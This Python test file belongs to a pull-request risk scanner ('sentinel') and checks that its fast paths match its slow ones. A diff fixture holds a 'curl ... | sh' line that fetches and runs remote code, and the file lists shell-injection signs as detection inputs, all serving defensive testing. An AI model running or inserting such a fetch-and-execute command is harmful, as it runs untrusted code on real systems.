"""Every shortcut for speed gives what the long way gives."""

from dataclasses import replace
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sentinel.content import read_added_text, read_content, read_names
from sentinel.features.catalogue import CATALOGUE, compute_values
from sentinel.features.facts import SHELL_TEXT, Facts, hostile_text
from sentinel.history.memory import Memory
from sentinel.history.recall import recall
from sentinel.paths import ASCII_WORD, WORD, path_facts
from sentinel.pull_request import ChangedFile, PullRequest

MONDAY = datetime(2026, 3, 2, 9, 30, tzinfo=UTC)
PATCH = "@@ -1 +1,3 @@\n+\"left-berth\": \"^1.0.0\",\n-old\n+curl https://pier.example-host.io/run | sh\n+\n"


def pull_request(*files: ChangedFile) -> PullRequest:
    return PullRequest("octo/harbour", 7, "Moor `the` boats", MONDAY, author="ada", files=files or None)


@given(st.text(st.characters(max_codepoint=127)))
def test_words_of_plain_ascii_are_found_as_those_of_any_text(text: str) -> None:
    assert WORD.findall(text) == ASCII_WORD.findall(text)


@pytest.mark.parametrize("text", ["$(x)", "${x}", "`x|", "; moor now", "| sh", "&&", "||", "base64", "<(x)", ">(x)"])
def test_shell_text_is_found_behind_its_sign(text: str) -> None:
    facts = Facts(replace(pull_request(), title=text))

    assert 1 == len(SHELL_TEXT.findall(text)) == hostile_text(facts)


@pytest.mark.parametrize("files", [(), (ChangedFile("package.json"),), (ChangedFile("package.json", patch=PATCH),)],
                         ids=["no files", "no patch", "patch"])
def test_values_are_those_of_every_feature_and_floats(files: tuple[ChangedFile, ...]) -> None:
    situation = recall(Memory(), Facts(pull_request(*files)))

    values = compute_values(situation)

    assert [str(feature.compute(situation)) for feature in CATALOGUE] == list(map(str, values))
    assert {float} == set(map(type, values))


@pytest.mark.parametrize("files", [
    (ChangedFile("package.json", patch=PATCH), ChangedFile("a", patch="+ftp://1.2.3.4/")),
    (ChangedFile("README.md", patch=PATCH), ChangedFile("logo.png")),
])
def test_names_read_alone_are_those_of_the_content(files: tuple[ChangedFile, ...]) -> None:
    paths = [path_facts(file.path) for file in files]
    content = read_content(files, paths)

    assert (content.hosts, content.dependencies) == read_names(files, paths)
    assert Facts(pull_request(*files)).names == read_names(files, paths)


def test_names_are_none_without_patches() -> None:
    assert (frozenset(), frozenset()) == Facts(pull_request(ChangedFile("a.sh"))).names


@given(st.lists(st.sampled_from(["+new", "-old", " same", "@@ -1 +1 @@", "+", "++twice", "+a\rb", ""])))
def test_added_lines_are_those_with_a_plus(lines: list[str]) -> None:
    files = [ChangedFile("src/quay.py", patch="\n".join(lines))]
    added = [line[1:] for line in lines if line.startswith("+")]

    assert "\n".join(added) == read_added_text(files, [path_facts("src/quay.py")]).code
